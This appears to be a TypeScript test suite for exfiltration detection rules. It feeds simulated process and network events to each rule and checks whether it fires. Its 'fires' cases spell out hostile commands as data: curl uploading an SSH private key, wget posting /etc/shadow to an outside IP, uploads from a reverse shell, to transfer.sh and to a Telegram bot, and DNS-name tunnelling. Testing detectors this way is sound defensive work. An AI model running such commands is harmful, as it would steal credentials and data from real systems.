import { IPPROTO, records } from '@ringfence/wire';
import { asksFor } from './packets.ts';
import { NOBODY, REMOTE, type Scene, testContent } from './support.ts';

const { AF_INET } = records.AddressFamily;
const started = (words: string) => (s: Scene) => s.start(words);

/** A connection to the internet that has carried so much away. */
const flow =
  (by: string, sent: bigint, address = '203.0.113.9') =>
  (s: Scene) =>
    s.event(s.start(by), 'Flow', {
      family: AF_INET,
      protocol: IPPROTO.TCP,
      port: 443,
      address,
      localAddress: '10.0.0.1',
      localPort: 4000,
      sent,
    });

function longNames(s: Scene, by: string, count: number, length: number): void {
  const process = s.start(by);
  for (let n = 0; n < count; n++)
    asksFor(s, process, `${'a'.repeat(30)}.${String(n).padStart(length - 30, '0')}.x.example`);
}

testContent('exfiltration.yaml', {
  'Secrets uploaded': {
    as: 'critical exfiltration T1048',
    fires: {
      'a key': started('/usr/bin/curl -F f=@/root/.ssh/id_ed25519 https://x.example'),
      hashes: started('/usr/bin/wget --post-file=/etc/shadow http://203.0.113.9/'),
    },
    quiet: {
      'a package': started('/usr/bin/curl -T dist/app.tgz https://repo.example/app.tgz'),
      'a form': started('/usr/bin/curl -d user=ann https://x.example/root/login'),
      'with a certificate': started('/usr/bin/curl --key /etc/tls/client.key https://x.example'),
    },
  },
  "Upload by a server's command": {
    as: 'error exfiltration T1048',
    fires: {
      'in a reverse shell': (s) =>
        s.start('/usr/bin/curl -F f=@db.sql https://x.example', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
    },
    quiet: {
      'an administrator': started('/usr/bin/curl -F f=@db.sql https://x.example'),
      'a server asks another': (s) =>
        s.start('/usr/bin/curl https://api.example', s.start('/bin/sh', s.inside), NOBODY),
    },
  },
  'Copy to a cloud storage': {
    as: 'notice exfiltration T1567.002',
    fires: { rclone: started('/usr/bin/rclone copy /srv remote:x'), aws: started('/usr/bin/aws s3 cp x s3://b/x') },
    quiet: {
      'its version': started('/usr/bin/rclone version'),
      'machines are listed': started('/usr/bin/aws ec2 describe-instances'),
    },
  },
  'Much sent to the internet': {
    as: 'notice exfiltration T1041',
    fires: { 'two gigabytes': flow('/usr/bin/x', 2_000_000_000n) },
    quiet: {
      'within the house': flow('/usr/bin/x', 2_000_000_000n, '10.0.0.9'),
      'a backup': flow('/usr/bin/restic', 2_000_000_000n),
      'a megabyte': flow('/usr/bin/x', 1_000_000n),
    },
  },
  'Data put into the names of DNS queries': {
    as: 'error exfiltration command-and-control T1048 T1071.004',
    fires: { 'one after the other': (s) => longNames(s, '/tmp/x', 25, 70) },
    quiet: {
      'twenty-four': (s) => longNames(s, '/tmp/x', 24, 70),
      'short names': (s) => longNames(s, '/usr/bin/firefox', 60, 40),
      'one long name again and again': (s) => {
        const process = s.start('/usr/bin/x');
        for (let n = 0; n < 60; n++) asksFor(s, process, `${'a'.repeat(60)}.cdn.example`);
      },
    },
  },
  'Upload started by a timer': {
    as: 'notice exfiltration T1029 T1020',
    fires: {
      curl: (s) =>
        s.start(
          '/usr/bin/curl -T /srv/x https://x.example',
          s.start('/bin/sh -c x', s.start('/usr/sbin/cron -f', s.init)),
        ),
    },
    quiet: {
      'by hand': (s) => s.start('/usr/bin/curl -T /srv/x https://x.example'),
      'something is fetched': (s) =>
        s.start(
          '/usr/bin/curl -o /srv/x https://x.example',
          s.start('/bin/sh -c x', s.start('/usr/sbin/cron -f', s.init)),
        ),
    },
  },
  'Archive cut into pieces': {
    as: 'notice exfiltration T1030',
    fires: {
      split: (s) => s.start('/usr/bin/split -b 10M /tmp/x.tar.gz /tmp/part'),
      '7z': (s) => s.start('/usr/bin/7z a -v10m /tmp/x.7z /srv'),
    },
    quiet: {
      'lines of a text': (s) => s.start('/usr/bin/split -l 1000 list.txt part'),
      'another file': (s) => s.start('/usr/bin/split -b 1M firmware.bin part'),
    },
  },
  'File left at a service for anybody': {
    as: 'warning exfiltration T1567.003 T1567.004',
    fires: {
      'to a place for files': (s) => s.start('/usr/bin/curl -T db.sql https://transfer.sh/x'),
      'to a chat': (s) => s.start('/usr/bin/curl -F document=@x.zip https://api.telegram.org/bot1/sendDocument'),
    },
    quiet: {
      'a message': (s) => s.start('/usr/bin/curl -d text=done https://hooks.slack.com/services/x'),
      'a message from a file': (s) => s.start('/usr/bin/curl -d @message.json https://hooks.slack.com/services/x'),
      'something is fetched': (s) => s.start('/usr/bin/curl https://transfer.sh/x -o x'),
      'to a server of ours': (s) => s.start('/usr/bin/curl -T x https://repo.example/x'),
    },
  },
  'Text left in a repository of code': {
    as: 'notice exfiltration T1567.001',
    fires: {
      gh: (s) => s.start('/usr/bin/gh gist create x.txt'),
      curl: (s) => s.start('/usr/bin/curl -d @x https://api.github.com/gists'),
    },
    quiet: {
      'they are listed': (s) => s.start('/usr/bin/gh gist list'),
      'a change is proposed': (s) => s.start('/usr/bin/gh pr create'),
    },
  },
  'Other way out of the machine opened': {
    as: 'notice exfiltration T1011.001',
    fires: {
      'a file by Bluetooth': (s) => s.start('/usr/bin/obexftp -b 00:11:22:33:44:55 -p x'),
      'a network': (s) => s.start('/usr/bin/nmcli device wifi hotspot'),
    },
    quiet: {
      'networks are shown': (s) => s.start('/usr/bin/nmcli device wifi list'),
      'a service of the system': (s) => s.start('/usr/sbin/hostapd /etc/hostapd.conf', s.init),
    },
  },
});
